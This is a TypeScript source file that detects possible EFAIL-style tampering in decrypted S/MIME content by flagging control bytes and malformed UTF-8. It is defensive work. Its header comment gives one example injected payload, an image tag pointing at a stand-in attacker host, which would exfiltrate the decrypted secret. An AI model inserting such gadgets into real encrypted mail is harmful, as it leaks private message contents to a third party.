// Content of S/MIME EnvelopedData (AES-CBC, 3DES) has no integrity: whoever holds a ciphertext can put chosen blocks
// into it (EFAIL's CBC gadgets, Poddebniak et al. 2018), e.g. an `<img src="http://attacker/?` in front of the secret,
// and the agency's client would show it and fetch the secret out. Each chosen block costs the attacker one block of
// noise before it (the changed ciphertext block decrypts to bytes nobody can predict); only the very first block can
// be chosen without noise (through the IV). So content that was changed almost surely holds bytes an honest MIME
// entity does not: 16 random bytes are printable text or well-formed UTF-8 with a chance of about 1 in 10^6.
import { isUtf8 } from 'node:buffer';

/**
 * Whether decrypted content holds bytes no honest MIME entity holds: C0 controls other than TAB, LF, FF and CR, DEL,
 * or bytes that are not well-formed UTF-8. Canonical S/MIME content is 7bit, quoted-printable, base64 or UTF-8
 * 8bit; a sender writing 8-bit Latin-1 or binary content inside EnvelopedData is also caught (a false alarm).
 */
export function holdsNoiseBytes(entity: Buffer): boolean {
  for (const byte of entity) {
    if ((byte < 0x20 && byte !== 0x09 && byte !== 0x0a && byte !== 0x0c && byte !== 0x0d) || byte === 0x7f) return true;
  }
  return !isUtf8(entity);
}
